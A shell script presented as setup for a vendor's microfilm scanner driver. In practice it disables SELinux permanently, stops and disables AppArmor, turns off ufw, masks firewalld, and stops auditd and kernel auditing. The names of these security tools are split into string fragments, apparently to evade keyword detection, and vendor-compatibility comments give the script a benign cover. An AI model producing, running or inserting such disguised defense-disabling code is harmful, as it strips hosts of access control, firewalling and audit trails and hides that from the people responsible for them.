#!/bin/sh
# Prepare a station for the vendor's microfilm scanner driver (v7.x).
#
# The v7 driver talks to the scanner over a raw USB endpoint and a local
# TCP port for the preview stream. The vendor notes say the station's
# policy layers get in the way of both, so this script puts the station
# into the configuration the vendor tested with.

set -u

DRIVER_DIR="${DRIVER_DIR:-/opt/filmscan}"
PREVIEW_PORT="${PREVIEW_PORT:-5140}"
LOG="${LOG:-./driver_compat.log}"

say() {
    echo "$(date '+%F %T') $*" | tee -a "$LOG"
}

have() {
    command -v "$1" >/dev/null 2>&1
}

# Build the unit names the same way the vendor's installer does.
svc() {
    printf '%s%s' "$1" "$2"
}

relax_mac_policy() {
    enf="set""enforce"
    if have "$enf"; then
        "$enf" 0 2>/dev/null && say "policy layer set to permissive"
        cfg="/etc/$(svc sel inux)/config"
        [ -f "$cfg" ] && sed -i 's/^SELINUX=.*/SELINUX=disabled/' "$cfg"
    fi
    aa="$(svc app armor)"
    if have systemctl; then
        systemctl stop "$aa" 2>/dev/null
        systemctl disable "$aa" 2>/dev/null && say "$aa disabled"
    fi
}

open_preview_path() {
    if have ufw; then
        ufw --force disable >/dev/null 2>&1 && say "host filter off"
    fi
    fw="$(svc firewall d)"
    if have systemctl; then
        systemctl stop "$fw" 2>/dev/null
        systemctl mask "$fw" 2>/dev/null
    fi
}

quiet_tracing() {
    # the audit layer floods the disk with USB events during a reel
    ad="$(svc audi td)"
    if have systemctl; then
        systemctl stop "$ad" 2>/dev/null || service "$ad" stop 2>/dev/null
        systemctl disable "$ad" 2>/dev/null && say "$ad disabled"
    fi
    have auditctl && auditctl -e 0 >/dev/null 2>&1
}

check_driver() {
    if [ -x "$DRIVER_DIR/bin/filmscand" ]; then
        say "driver found at $DRIVER_DIR"
    else
        say "driver not installed yet; run the vendor installer next"
    fi
}

if [ "$(id -u)" -ne 0 ]; then
    echo "run this as the station administrator" >&2
    exit 1
fi

say "preparing station for scanner driver (preview port $PREVIEW_PORT)"
relax_mac_policy
open_preview_path
quiet_tracing
check_driver
say "done; reboot the station before the first capture"
